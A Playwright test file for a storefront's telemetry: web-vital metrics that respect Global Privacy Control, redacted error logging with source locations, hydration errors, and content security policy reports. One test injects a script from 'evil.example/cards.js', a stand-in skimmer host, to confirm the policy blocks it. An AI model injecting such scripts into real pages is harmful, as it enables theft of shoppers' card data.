/** What browsers report to the storefront: how fast pages were, and what failed, with its place in the sources. */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { ROOT } from '../../scripts/lib/root.mjs'
import { expect, test as base } from '../fixtures/index.ts'
import { shopperOn, type Shopper } from '../fixtures/shopper.ts'
import { serverUrl } from '../harness/server-env.ts'
import { startServerProcess, type ServerProcess } from '../harness/server-process.ts'

interface LogLine {
  browser: { kind: string; page: string; message: string; stack: string[] }
}

/** One for the file, so that no other test's visits are among its figures. */
const test = base.extend<object, { storefront: ServerProcess }>({
  storefront: [
    async ({}, use) => {
      const storefront = await startServerProcess('storefront', {
        BRAND: 'loftwood',
        MIDDLEWARE_URL: serverUrl('middleware'),
        MEDIA_URL: `${serverUrl('commerce')}/media`,
      })
      await use(storefront)
      await storefront.stop()
    },
    { scope: 'worker', timeout: 120_000 },
  ],

  baseURL: async ({ storefront }, use) => use(storefront.url),
})
test.describe.configure({ mode: 'default' })

const metricsOf = async ({ url }: ServerProcess) => (await fetch(`${url}/metrics`)).text()

/** Lines about one kind of errors. */
const errorsIn = (storefront: ServerProcess, kind: string) =>
  storefront
    .logged()
    .split('\n')
    .filter((line) => line.includes('"browser error"'))
    .map((line) => (JSON.parse(line) as LogLine).browser)
    .filter((browser) => browser.kind === kind)

/** Path and line of a text in the storefront's sources. */
function placeOf(path: string, text: string): string {
  const lines = readFileSync(join(ROOT, path), 'utf8').split('\n')
  return `${path}:${lines.findIndex((line) => line.includes(text)) + 1}:`
}

/** Opens a page and waits for the code that measures it, which comes with the first use. */
async function openMeasured(page: Page, path: string): Promise<Shopper> {
  const measures = page.waitForResponse(
    async (response) => response.url().endsWith('.js') && (await response.text()).includes('layout-shift'),
  )
  const shopper = shopperOn(page, 'en')
  await shopper.open(path)
  await page.mouse.move(200, 300)
  await measures
  return shopper
}

test('figures of a visit arrive when its page is left, unless the visitor objects', async ({
  page,
  context,
  storefront,
}) => {
  const objecting = await context.newPage()
  await objecting.addInitScript(() =>
    Object.defineProperty(navigator, 'globalPrivacyControl', { value: true }),
  )
  await openMeasured(objecting, '/bunk-beds')
  await objecting.goto('/contact')

  const shopper = await openMeasured(page, '/laurier-high-bunk-bed')
  await shopper.chooseFirstOptions()
  // Another page of the same document is part of the visit.
  await page
    .getByRole('contentinfo')
    .getByRole('link', { name: shopper.say('sitemap.title') })
    .click()
  await expect(page).toHaveURL(/Sitemap$/)
  await page.goto('/contact')
  for (const vital of ['lcp_seconds', 'inp_seconds', 'ttfb_seconds', 'cls'])
    await expect
      .poll(() => metricsOf(storefront), { message: vital })
      .toContain(`storefront_web_vital_${vital}_count{page="product"} 1\n`)
  const pages = (await metricsOf(storefront)).matchAll(/storefront_web_vital_\w+_count\{page="(\w+)"\}/g)
  expect(new Set(Array.from(pages, ([, name]) => name))).toEqual(new Set(['product']))
})

test.describe('what fails', () => {
  test.use({ expectedProblems: [/no connection is watched|Minified React error #418|evil\.example/] })

  test('is logged once, and names the place in the sources', async ({ page, storefront }) => {
    await page.addInitScript(() => {
      const listen = window.addEventListener.bind(window)
      Object.assign(window, {
        addEventListener: (...args: Parameters<typeof listen>) => {
          if (args[0] === 'offline') throw new Error('no connection is watched of maude@mail.example.com')
          listen(...args)
        },
      })
    })
    const place = placeOf('packages/storefront/src/app/browser/start.ts', "addEventListener('offline'")
    await shopperOn(page, 'en').open('/contact')
    await expect.poll(() => errorsIn(storefront, 'rejection')).toHaveLength(1)
    const [error] = errorsIn(storefront, 'rejection')
    expect(error).toMatchObject({ page: 'content', message: 'Error: no connection is watched of <mail>' })
    expect(error?.stack[0]).toContain(place)
    const counted = 'storefront_browser_errors_total{kind="rejection"}'
    await page.reload()
    await expect.poll(() => metricsOf(storefront)).toContain(`${counted} 2\n`)
    expect(errorsIn(storefront, 'rejection')).toHaveLength(1)
  })

  test('in hydrating names the component', async ({ page, storefront }) => {
    await page.route('**/contact', async (route) => {
      const response = await route.fetch()
      await route.fulfill({ response, body: (await response.text()).replace(/<h1[^>]*>/, '$&Not ') })
    })
    await page.goto('/contact')
    await expect.poll(() => errorsIn(storefront, 'hydration')).toHaveLength(1)
    const [error] = errorsIn(storefront, 'hydration')
    expect(error?.message).toContain('Minified React error #418')
    expect(error?.stack[0]).toMatch(/^packages\/storefront\/src\/platform\/page-heading\.tsx:\d+/)
  })

  test('by the content security policy names what was blocked', async ({ page, storefront }) => {
    await shopperOn(page, 'en').open('/contact')
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/cards.js?of=maude'
      document.head.append(script)
    })
    await expect.poll(() => errorsIn(storefront, 'csp')).toHaveLength(1)
    expect(errorsIn(storefront, 'csp')[0]).toMatchObject({
      message: 'script-src-elem blocked https://evil.example',
    })
  })
})
